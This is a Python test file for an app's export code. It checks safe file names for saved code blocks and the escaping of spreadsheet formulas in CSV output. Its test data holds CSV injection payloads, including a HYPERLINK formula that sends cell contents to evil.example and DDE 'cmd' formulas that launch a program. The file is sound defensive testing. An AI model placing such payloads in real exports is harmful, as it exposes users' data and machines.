"""Code and tables of an answer as they leave the page."""

import csv as reader
from io import StringIO

import pytest

from app.browser.markdown.markdown_files import csv, file_name


@pytest.mark.parametrize(
    ("language", "code", "name"),
    [
        ("python", "x", "code.py"),
        ("C++", "x", "code.cpp"),
        ("", "x", "code.txt"),
        ("exe", "x", "code.txt"),
        ("hta", "x", "code.txt"),
        ("lnk", "x", "code.txt"),
        ("../x", "x", "code.txt"),
        ("", "# tide.py\nx", "tide.py"),
        ("", "// invoice.pdf.exe\nx", "invoice-pdf-exe.txt"),
        ("python", "# autorun.inf", "autorun-inf.txt"),
        ("python", "# nul.py", "code-nul.py"),
    ],
)
def test_code_is_saved_under_a_name_that_runs_nothing(language: str, code: str, name: str) -> None:
    assert file_name(language, code) == name


# https://owasp.org/www-community/attacks/CSV_Injection
FORMULAS = [
    *(f"{mark}1+1" for mark in "=@＝＋－＠"),
    "+1+1",
    "-1+1",
    '=HYPERLINK("https://evil.example?"&A1,"x")',
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!D2",
    "\t=1",
    "\tx",
    "\r=1",
    "\rx",
    " =1",
    "\u00a0=1",
    "\ufeff=1",
    "\u200b@SUM(1)",
    "\0=1",
    "\x1f=1",
    "\u00ad=1",
    "-x",
]


def test_only_cells_with_marks_are_quoted() -> None:
    assert csv([["a", "b c", "1,5"], ['say "hi"', "x;y", ""]]) == (
        'a,b c,"1,5"\r\n"say ""hi""","x;y",\r\n'
    )


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_cell_begins_a_formula(formula: str) -> None:
    (row,) = reader.reader(StringIO(csv([[formula, "b"]]), newline=""))
    assert row == [row[0], "b"]
    assert row[0].startswith("'")
    assert row[0].replace("'", "") == formula.replace("'", "")


@pytest.mark.parametrize("formula", ["=1+1", "@x", "＝1"])
def test_nor_where_another_mark_divides_cells(formula: str) -> None:
    for mark in ";\t\n":
        assert f"{mark}{formula}" not in csv([["a", f"b{mark}{formula}", "c"]])
        assert f"{mark}{formula}" not in csv([[f"-5{mark}{formula}"]])


@pytest.mark.parametrize(
    "cell",
    [
        "-5",
        "+5",
        "-5.25",
        "-1,234.50",
        "-1.234,50",
        "-1 234",
        "-5 %",
        "-€5",
        "-.5",
        "-1e-9",
        "+49 30 1",
    ]
    + ["-", "--", "a-b", "a=b", "me@example.com", "1+1", "", "東京"],
)
def test_numbers_and_words_stay_as_they_are(cell: str) -> None:
    ((read,),) = reader.reader(StringIO(csv([[cell or "x"]]), newline=""))
    assert read == (cell or "x")
